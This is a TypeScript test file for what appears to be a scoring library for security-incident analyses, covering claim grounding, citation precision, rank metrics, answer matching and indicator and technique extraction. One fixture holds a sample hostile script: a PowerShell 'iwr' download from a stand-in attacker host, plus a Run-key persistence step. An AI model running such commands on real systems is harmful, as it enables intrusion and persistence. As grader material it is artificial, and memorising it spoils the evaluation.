import type { Fact } from '@attest/cards';
import fc from 'fast-check';
import { answerOf, atomsOf, Evidence, groundingOf, kendallTau, macroF1, retrievalOf, sameAnswer, scoreCitations, scoreIndicators, scoreLayers, scoreTechniques } from '../index.js';

describe('atoms', () => {
  it('are what can be looked up, refanged', () => {
    expect(atomsOf('On WS-1 process 4410 (Mimikatz.exe) reached 203[.]0[.]113[.]7 on port 443, T1003.001, mail a.b@corp.example.')).toEqual(['4410', 'mimikatz.exe', '203.0.113.7', '443', 't1003.001', 'a.b@corp.example']);
    expect(atomsOf('Nothing of the kind was seen on 3 May.')).toEqual([]);
  });
});

describe('grounding', () => {
  const facts: Fact[] = [
    { id: 'a1', type: 'alert.raised', values: {}, source: { kind: 'alert', alertId: 'one' } },
    { id: 'e1', type: 'network.connected', values: {}, source: { kind: 'event', table: 'DeviceNetworkEvents', row: 1, timestamp: '2026-01-01T00:00:00Z' } },
    { id: 'i1', type: 'incident.comment', values: {}, source: { kind: 'incident', field: 'alerts.comments' } },
  ];
  const evidence = new Evidence({ incident: { displayName: 'Incident', alerts: [{ id: 'one', title: 'Run of evil.exe', comments: [{ by: 'dana@corp.example' }], evidence: [{ ipAddress: '203.0.113.7' }] }] }, rows: ['{"RemoteIP":"203.0.113.1"}', '{"RemoteIP":"203.0.113.8","FolderPath":"C:\\\\Temp\\\\run.exe"}'] });
  const of = (text: string, ...ids: string[]): ReturnType<typeof groundingOf> => groundingOf([{ text, facts: ids }], facts, evidence);

  it('holds when the cited record has every atom', () => {
    for (const [text, id] of [['evil.exe ran, and 203.0.113.7 was reached.', 'a1'], ['run.exe reached 203.0.113.8.', 'e1'], ['dana@corp.example wrote a comment.', 'i1']] as const) expect(of(text, id)).toEqual({ ungrounded: [], citationPrecision: 1, citationRecall: 1, notCarried: [] });
  });

  it('tells an invented atom from one of another record, and a citation of nothing from one', () => {
    expect(of('203.0.113.99 was reached.', 'a1')).toMatchObject({ ungrounded: ['203.0.113.99'], citationPrecision: 0 });
    expect(of('203.0.113.8 was reached.', 'a1')).toMatchObject({ ungrounded: [], citationPrecision: 0, notCarried: [{ text: '203.0.113.8 was reached.' }] });
    expect(of('evil.exe ran.', 'unknown')).toMatchObject({ ungrounded: [], citationPrecision: 0, citationRecall: 1 });
    expect(of('evil.exe ran.')).toMatchObject({ citationPrecision: 0, citationRecall: 0 });
    expect(of('Something ran.')).toMatchObject({ citationPrecision: null, citationRecall: null });
  });
});

describe('rates', () => {
  it('kendallTau is the share of agreeing pairs less that of the others, where nothing is tied', () => {
    fc.assert(fc.property(fc.uniqueArray(fc.integer(), { minLength: 2, maxLength: 12 }).chain((a) => fc.tuple(fc.constant(a), fc.shuffledSubarray(a, { minLength: a.length }))), ([a, b]) => {
      let sum = 0;
      for (let i = 0; i < a.length; i++) for (let j = 0; j < i; j++) sum += Math.sign((a[i] as number) - (a[j] as number)) * Math.sign((b[i] as number) - (b[j] as number));
      expect(kendallTau(a.map((value, index) => [value, b[index] as number] as const))).toBeCloseTo(sum / ((a.length * (a.length - 1)) / 2), 10);
    }));
    expect(kendallTau([[1, 1]])).toBeNull();
    expect(kendallTau([[1, 1], [1, 2], [2, 3]])).toBeCloseTo(2 / Math.sqrt(2 * 3), 10);
  });

  it('macroF1 counts every class of truth alike', () => {
    expect(macroF1([])).toBeNull();
    expect(macroF1([['a', 'a'], ['a', 'a'], ['b', 'a']])).toBeCloseTo((4 / 5 + 0) / 2, 10);
    expect(macroF1([['a', 'a'], ['b', undefined]])).toBeCloseTo(0.5, 10);
  });

  it('retrievalOf is symmetric but for its names', () => {
    fc.assert(fc.property(fc.array(fc.constantFrom(...'abcdef')), fc.array(fc.constantFrom(...'abcdef')), (a, b) => {
      const [one, other] = [retrievalOf(a, b), retrievalOf(b, a)];
      expect([one.precision, one.recall, one.f1]).toEqual([other.recall, other.precision, other.f1]);
    }));
    expect(retrievalOf(['x'], [])).toEqual({ precision: null, recall: 0, f1: 0 });
  });
});

describe('sameAnswer', () => {
  const cell = fc.oneof(fc.constantFrom('a', 'b', ''), fc.integer({ min: 0, max: 3 }), fc.boolean(), fc.constant(null));
  const records = fc.array(fc.record({ one: cell, two: cell }), { maxLength: 6 });

  it('does not mind order, names or more columns', () => {
    fc.assert(fc.property(records, fc.integer(), (rows, turn) => {
      const gold = answerOf(rows);
      const mixed = rows.map((_, index) => rows[(index + Math.abs(turn)) % rows.length] as (typeof rows)[number]);
      const ours = { columns: [{ name: 'extra' }, { name: 'renamed' }, { name: 'two' }], rows: mixed.map(({ one, two }, index) => [index, one, two]) };
      // Columns with the same cells could be taken for each other.
      fc.pre(new Set(['one', 'two'].map((name) => JSON.stringify(rows.map((row) => String(row[name as 'one'] ?? '')).sort()))).size === 2 || rows.length === 0);
      fc.pre(JSON.stringify(rows.map((_, index) => String(index)).sort()) !== JSON.stringify(rows.map(({ one }) => String(one ?? '')).sort()));
      expect(sameAnswer(gold, ours)).toBe(true);
    }));
  });

  it('minds rows, pairs of cells and the sixth digit', () => {
    const gold = answerOf([{ user: 'a', n: 1 }, { user: 'b', n: 2 }]);
    expect(sameAnswer(gold, answerOf([{ user: 'a', n: 1 }]))).toBe(false);
    expect(sameAnswer(gold, answerOf([{ user: 'a', n: 2 }, { user: 'b', n: 1 }]))).toBe(false);
    expect(sameAnswer(gold, answerOf([{ user: 'a' }, { user: 'b' }]))).toBe(false);
    expect(sameAnswer(gold, answerOf([{ who: 'b', n: 2.0000001 }, { who: 'a', n: 1 }]))).toBe(true);
    expect(sameAnswer(answerOf([]), answerOf([]))).toBe(true);
  });
});

describe('a script', () => {
  const item = { text: 'run %PUBLIC%\\a.ps1; set HKCU:\\Software\\Run\\Updater', layers: [{ text: 'iwr http://evil.example/x\n' }], indicators: [{ type: 'url', value: 'http://evil.example/x' }, { type: 'registry', value: 'HKEY_CURRENT_USER\\Software\\Run' }], techniques: ['T1059.001', 'T1027'] };
  const layer = { index: 0, sha256: '', text: 'iwr http://evil.example/x' };

  it('is measured by what was planted, in any spelling', () => {
    const output = { layers: [layer], indicators: [{ type: 'url', value: 'http://EVIL.example/x/', layer: 0, line: 1 }, { type: 'registrykey', value: 'HKCU:\\Software\\Run\\Updater', layer: 0, line: 1 }, { type: 'path', value: 'C:\\Users\\Public\\a.ps1', layer: 0, line: 1 }], techniques: [{ id: 'T1059' }, { id: 'T1105' }] };
    expect(scoreIndicators(item, output)).toMatchObject({ planted: 2, found: 2, emitted: 3, wrong: 0 });
    expect(scoreTechniques(item, output)).toEqual({ planted: 2, found: 1, emitted: 2, extra: 1, missed: ['T1027'] });
    expect(scoreLayers(item, output)).toMatchObject({ planted: 1, byHash: 1, decoded: 1, legible: 0, all: true });
  });

  it('has no indicator that was not planted, and none outside the lines it cites', () => {
    const output = { layers: [layer], indicators: [{ type: 'domain', value: 'other.example', layer: 0, line: 1 }, { type: 'url', value: 'http://evil.example/x', layer: 0, line: 1 }], facts: [{ id: 'f1', layer: 0, line: 9, values: { url: 'http://evil.example/x' } }] };
    expect(scoreIndicators(item, output)).toMatchObject({ found: 1, wrong: 1, wrongOnes: [{ type: 'domain', value: 'other.example' }] });
    expect(scoreCitations(output)).toEqual({ checked: 3, bad: 2, badOnes: [{ fact: 'f1', value: 'http://evil.example/x' }, { indicator: 'domain', value: 'other.example' }] });
    expect(scoreLayers(item, {})).toMatchObject({ planted: 1, decoded: 0, all: false, innermost: false });
  });
});
